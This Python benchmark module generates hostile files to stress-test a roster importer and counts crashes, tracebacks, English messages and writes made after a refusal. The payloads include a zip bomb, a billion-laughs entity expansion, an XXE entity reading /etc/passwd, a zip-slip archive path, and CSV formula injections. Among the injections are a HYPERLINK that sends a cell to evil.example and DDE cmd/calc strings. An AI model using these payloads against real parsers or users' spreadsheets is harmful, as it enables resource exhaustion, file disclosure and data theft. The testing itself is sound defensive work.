"""The hostile files of the break campaign (benchmarks/break_campaign.py), issue #14: zip
bombs, XML entities, cells far out, merged ranges, huge cells and lines, FIFOs and device
links, empty, random, truncated, encrypted and mislabelled files, broken encodings, a sparse
file just over the size limit, and rosters whose names attack spreadsheets and terminals.
Each file is named for what it is; the workbooks are written by hand (a minimal package of
five parts) so that they may claim anything. ``run_hostile`` imports each into a fresh
database and counts crashes, tracebacks, English messages, slow refusals and writes made
although the file was refused.
"""

from __future__ import annotations

import csv
import os
import random
import re
import resource
import shutil
import subprocess
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from benchmarks.break_runs import CLI, ENGLISH_ERROR, ENV, ROOT, empty_database, fingerprint
from benchmarks.import_roster import generate
from tiers.model import credit_code

SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8"?>{doctype}<worksheet xmlns='
              '"http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
ROSTER_HEADER = ["企业名称", "统一社会信用代码", "县（市、区）", "地址", "联系电话"]


def xlsx(path: Path, sheet_xml: str | None = None, *, zeros: int = 0) -> Path:
    """A minimal workbook with one sheet of the given XML, written by hand so that it may
    say anything; ``zeros`` appends that many bytes of "0" inside a cell (a zip bomb)."""
    main = "http://schemas.openxmlformats.org/"
    parts = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
        '.org/package/2006/content-types"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
        '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
        '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'<?xml version="1.0"?><Relationships xmlns="{main}package/2006/'
        f'relationships"><Relationship Id="rId1" Type="{main}officeDocument/2006/'
        'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{main}spreadsheetml/2006/'
        f'main" xmlns:r="{main}officeDocument/2006/relationships"><sheets><sheet name='
        '"企业名录" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<?xml version="1.0"?><Relationships xmlns="{main}'
        f'package/2006/relationships"><Relationship Id="rId1" Type="{main}officeDocument/'
        '2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            if zeros:
                sheet.write((SHEET_HEAD.format(doctype="") + '<sheetData><row r="1"><c r="A1" '
                             't="inlineStr"><is><t>').encode())
                chunk = b"0" * (1 << 24)
                for _ in range(zeros // len(chunk)):
                    sheet.write(chunk)
                sheet.write(b"</t></is></c></row></sheetData></worksheet>")
            else:
                sheet.write((sheet_xml or "").encode())
    return path


def header_row(extra: str = "") -> str:
    cells = "".join(f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{text}</t></is></c>'
                    for i, text in enumerate(ROSTER_HEADER))
    return f'<row r="1">{cells}{extra}</row>'


def sheet(rows: str, *, doctype: str = "", before: str = "", after: str = "") -> str:
    return (SHEET_HEAD.format(doctype=doctype)
            + f"{before}<sheetData>{rows}</sheetData>{after}</worksheet>")


def csv_file(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    with path.open("w", encoding=encoding, newline="", errors="strict") as handle:
        csv.writer(handle).writerows([ROSTER_HEADER, *rows])
    return path


def code_of(i: int) -> str:
    return credit_code.make(f"91320412{i:08d}")


def roster_rows(names: list[str], start: int = 0) -> list[list[str]]:
    return [[name, code_of(start + i), "武进区", f"湖塘镇{i}号", "13912345678"]
            for i, name in enumerate(names)]


HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")有限公司', "+1+1有限公司",
                 "-2+3有限公司", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1科技有限公司",
                 '=DDE("cmd";"/C calc";"!A0")', "\t=1+1有限公司"]
CONTROL_NAMES = ["常州\x07铃声有限公司", "常州\x1b[31m红色有限公司", "常州\u202e司公限有反转",
                 "常州\u200b零宽有限公司", "常州\u2060连接有限公司", "常州\x7f删除符有限公司"]


def hostile_files(folder: Path, quick: bool) -> list[Path]:
    """The files of the campaign (38 of them; 6 with --quick), each named for what it is."""
    f = folder
    rng = random.Random(14)
    lol = ('<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)) + "]>")
    xxe = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    inline = '<c r="{0}" t="inlineStr"><is><t>{1}</t></is></c>'
    files: list[Callable[[], Path]] = [
        lambda: xlsx(f / "far-cell-XFD1048576.xlsx", sheet(
            header_row() + f'<row r="1048576">{inline.format("XFD1048576", "x")}</row>')),
        lambda: xlsx(f / "billion-laughs.xlsx", sheet(
            header_row() + f'<row r="2">{inline.format("A2", "&lol9;")}</row>', doctype=lol)),
        lambda: f / "empty.csv",
        lambda: csv_file(f / "formula-injection.csv", roster_rows(HOSTILE_NAMES)),
        lambda: f / "random-bytes.xlsx",
        lambda: f / "nul-bytes.csv",
    ]
    if not quick:
        files += [
            lambda: xlsx(f / "zip-bomb-1GB.xlsx", zeros=1 << 30),
            lambda: xlsx(f / "external-entity.xlsx", sheet(
                header_row() + f'<row r="2">{inline.format("A2", "&xxe;")}</row>', doctype=xxe)),
            lambda: xlsx(f / "far-cell-AL1048576.xlsx", sheet(
                header_row() + f'<row r="1048576">{inline.format("AL1048576", "x")}</row>')),
            lambda: xlsx(f / "far-cell-SF500000.xlsx", sheet(
                header_row() + f'<row r="500000">{inline.format("SF500000", "x")}</row>')),
            lambda: xlsx(f / "claimed-dimension.xlsx", sheet(
                header_row(), before='<dimension ref="A1:XFD1048576"/>')),
            lambda: xlsx(f / "merged-2000-ranges.xlsx", sheet(  # each range's corner filled
                header_row() + "".join(f'<row r="{n}">{inline.format(f"A{n}", "x")}</row>'
                                       for n in range(2, 2002)),
                after="<mergeCells>" + "".join(f'<mergeCell ref="A{n}:ALL{n + 999}"/>'
                                               for n in range(2, 2002)) + "</mergeCells>")),
            lambda: xlsx(f / "malformed-xml.xlsx", sheet(header_row() + "<row r='2'><c")),
            lambda: csv_file(f / "cell-10MB.csv", [["甲" * ((10 << 20) // 3), code_of(1), "",
                                                    "", ""]]),
            lambda: csv_file(f / "line-100k-columns.csv", [["x"] * 100_000]),
            lambda: f / "fifo.csv",
            lambda: f / "dev-zero-link.csv",
            lambda: f / "empty.xlsx",
            lambda: f / "random-bytes.xls",
            lambda: f / "random-bytes.csv",
            lambda: f / "truncated.xlsx",
            lambda: shutil.copy(ROOT / "tests/data/encrypted.xlsx", f / "encrypted.xlsx"),
            lambda: f / "gbk-broken-bytes.csv",
            lambda: f / "sparse-200MB-plus-1.csv",
            lambda: f / "directory.xlsx",
            lambda: csv_file(f / "control-bidi-zero-width-names.csv", roster_rows(CONTROL_NAMES)),
            lambda: f / "csv-named.xlsx",
            lambda: f / "xlsx-named.csv",
            lambda: csv_file(f / "utf16.csv", roster_rows(["常州甲有限公司"]), "utf-16"),
            lambda: csv_file(f / "header-only.csv", []),
            lambda: f / "no-newline-1MB.csv",
            lambda: csv_file(f / "huge-numbers.csv", [["常州大数有限公司", code_of(2), "武进区",
                                                      "1" + "0" * 22, "NaN"]]),
            lambda: f / "zip-slip.xlsx",
            lambda: f / "missing-file.xlsx",
            lambda: f / "ole-header-garbage.xls",
            # a 采集表 whose hidden marker was forged (#26): a column a billion to the right,
            # a header row beyond Excel's last, a year no 采集表 has
            lambda: forged_collection(f / "collection-marker-column-1e9.xlsx", column=10**9),
            lambda: forged_collection(f / "collection-marker-row-1e300.xlsx", row="1e300"),
            lambda: forged_collection(f / "collection-marker-year-99999.xlsx", year=99999),
        ]
    made = []
    for make in files:
        path = Path(make())
        write_plain(path, rng)
        made.append(path)
    return made


def forged_collection(path: Path, *, column: object = 5, row: object = 4,
                      year: object = 2025) -> Path:
    """A 采集表 as the export writes its hidden marker (tiers.reports.collection_marker),
    with the column of 统一社会信用代码, the header row or the year forged."""
    import openpyxl

    book = openpyxl.Workbook()
    data = book.active
    data.title = "采集表"
    data.append(["2025年度企业数据采集表"])
    for _ in range(2):
        data.append([])
    data.append(["序号", "县（市、区）", "镇（街道）", "企业名称", "统一社会信用代码"])
    data.append([1, "武进区", "湖塘镇", "常州甲有限公司", code_of(4)])
    marker = book.create_sheet("TiersCollection")
    for line in (["tiers-collection", 1], ["year", year], ["sheet", "采集表"],
                 ["header_row", row], ["column", "field", "role", "header"],
                 [4, "name", "identity", "企业名称"],
                 [column, "credit_code", "identity", "统一社会信用代码"]):
        marker.append(line)
    marker.sheet_state = "hidden"
    book.save(path)
    return path


def write_plain(path: Path, rng: random.Random) -> None:
    """The files that need no builder, by name (an existing file is left as made)."""
    name = path.name
    if path.exists() or path.is_symlink() or name == "missing-file.xlsx":
        return
    if name.startswith("empty"):
        path.touch()
    elif name.startswith("random-bytes"):
        path.write_bytes(rng.randbytes(50_000))
    elif name == "nul-bytes.csv":
        path.write_bytes("企业名称,统一社会信用代码\n常州\x00有限公司,\x00\x00\n".encode() * 100)
    elif name == "fifo.csv":
        os.mkfifo(path)
    elif name == "dev-zero-link.csv":
        path.symlink_to("/dev/zero")
    elif name == "truncated.xlsx":
        generate(path, 2000)
        path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    elif name == "gbk-broken-bytes.csv":
        text = f"企业名称,统一社会信用代码\n常州甲有限公司,{code_of(3)}\n".encode("gbk")
        path.write_bytes(text + b"\xff\xfe\x81\x30\xd5\n" * 50)
    elif name == "sparse-200MB-plus-1.csv":
        with path.open("wb") as handle:
            handle.truncate(200 * 1024 * 1024 + 1)
    elif name == "directory.xlsx":
        path.mkdir()
    elif name == "csv-named.xlsx":
        csv_file(path, roster_rows(["常州乙有限公司"]))
    elif name == "xlsx-named.csv":
        generate(path.with_suffix(".xlsx"), 10)
        path.with_suffix(".xlsx").rename(path)
    elif name == "no-newline-1MB.csv":
        path.write_bytes(b"a," * 500_000)
    elif name == "zip-slip.xlsx":
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("../../../../tmp/tiers-zip-slip.txt", "x")
            archive.writestr("xl/workbook.xml", "<workbook/>")
    elif name == "ole-header-garbage.xls":
        path.write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + rng.randbytes(20_000))


# --- importing them into a fresh database -----------------------------------------------

# three English words in a row: a library's message passed through instead of a Chinese one
ENGLISH_WORDS = re.compile(r"[A-Za-z]{2,}(?: \(?[A-Za-z0-9]+\)?){2,}")
SLOW_SECONDS = 10


@dataclass
class Hostile:
    run: int = 0
    crashes: int = 0
    tracebacks: int = 0
    writes_on_refusal: int = 0
    english: int = 0
    slow: int = 0
    failing: list[str] = field(default_factory=list)
    outcomes: list[str] = field(default_factory=list)  # every file's, for --verbose


def limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))


def run_hostile(work: Path, quick: bool) -> Hostile:
    folder = work / "hostile"
    folder.mkdir()
    template = empty_database(work / "hostile-empty.sqlite3")
    before = fingerprint(template)
    figures = Hostile()
    for path in hostile_files(folder, quick):
        db = work / "hostile" / "db" / "hostile.sqlite3"
        db.parent.mkdir()
        shutil.copy(template, db)
        figures.run += 1
        problems, outcome = import_hostile(path, db, before)
        figures.crashes += any(problem.startswith(("signal", "timeout")) for problem in problems)
        figures.tracebacks += any(problem.startswith("traceback") for problem in problems)
        figures.writes_on_refusal += "wrote although refused" in problems
        figures.english += any(problem.startswith("English") for problem in problems)
        figures.slow += any(problem.startswith("slow") for problem in problems)
        if problems:
            figures.failing.append(f"{path.name}: {'; '.join(problems)}")
        figures.outcomes.append(f"{path.name}: {outcome}")
        shutil.rmtree(db.parent)
    return figures


def import_hostile(path: Path, db: Path, before: dict[str, int]) -> tuple[list[str], str]:
    """``tiers import FILE --json`` under a 3 GB address space and a 60 s timeout: what went
    wrong, and what it did (exit status, seconds, its last line on stderr)."""
    started = time.perf_counter()
    try:
        result = subprocess.run([*CLI, "--db", str(db), "import", str(path), "--json"],
                                cwd=ROOT, env=ENV, timeout=60, capture_output=True,
                                preexec_fn=limit_memory)
    except subprocess.TimeoutExpired:
        return ["timeout 60 s"], "timeout"
    stderr = result.stderr.decode(errors="replace").strip()
    last_line = stderr.splitlines()[-1] if stderr else ""
    problems = []
    if result.returncode < 0:
        problems.append(f"signal {-result.returncode}")
    if ENGLISH_ERROR.search(stderr):
        problems.append(f"traceback: {last_line[:120]}")
    elif result.returncode > 0 and ENGLISH_WORDS.search(stderr.replace(str(path), "")):
        problems.append(f"English in the message: {last_line[:120]}")
    if result.returncode > 0 and fingerprint(db) != before:
        problems.append("wrote although refused")
    seconds = time.perf_counter() - started
    if seconds > SLOW_SECONDS:
        problems.append(f"slow: {seconds:.0f} s")
    return problems, f"exit {result.returncode}, {seconds:.1f} s, {last_line[:100]}"
